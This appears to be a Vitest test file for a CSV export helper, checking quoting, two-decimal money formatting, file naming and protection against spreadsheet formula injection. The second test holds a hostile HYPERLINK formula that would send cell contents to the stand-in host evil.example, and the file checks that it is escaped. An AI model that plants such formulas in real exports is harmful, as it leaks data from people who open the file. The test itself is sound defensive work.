import { describe, expect, it } from 'vitest';
import { csvFileName, toCsv } from './csv.ts';

describe('toCsv', () => {
  it('writes a header row, quotes what needs it, money with two decimals and empty cells for nothing', () => {
    const rows = [
      { vendor: 'Acme, Inc.', charges: 1234.5, pct: 12.5, note: null },
      { vendor: 'Say "hi"', charges: 10, pct: null, note: 'ok' },
    ];
    const text = toCsv(
      [
        { header: 'Vendor', value: (r) => r.vendor },
        { header: 'Charges', value: (r) => r.charges, kind: 'money' },
        { header: 'Share %', value: (r) => r.pct, kind: 'pct' },
        { header: 'Note', value: (r) => r.note },
      ],
      rows,
    );
    expect(text).toBe('Vendor,Charges,Share %,Note\n"Acme, Inc.",1234.50,12.5,\n"Say ""hi""",10.00,,ok\n');
  });

  it('writes text that would start a spreadsheet formula as text, and figures as they are', () => {
    const rows = [
      { vendor: '=HYPERLINK("https://evil.example/?"&C2,"Acme")', variance: '-993.50' },
      { vendor: '@SUM(A1:A9)', variance: '12.00' },
      { vendor: '-minus vendor', variance: '0.00' },
    ];
    const text = toCsv(
      [
        { header: 'Vendor', value: (r) => r.vendor },
        { header: 'Variance', value: (r) => r.variance, kind: 'money' },
      ],
      rows,
    );
    expect(text).toBe(
      'Vendor,Variance\n"\'=HYPERLINK(""https://evil.example/?""&C2,""Acme"")",-993.50\n\'@SUM(A1:A9),12.00\n\'-minus vendor,0.00\n',
    );
  });

  it('names files after the title and range', () => {
    expect(csvFileName('Spend by vendor', { from: '2025-01', to: '2025-06' })).toBe(
      'spend-by-vendor-2025-01-2025-06.csv',
    );
    expect(csvFileName('SLA breaches!')).toBe('sla-breaches.csv');
  });
});
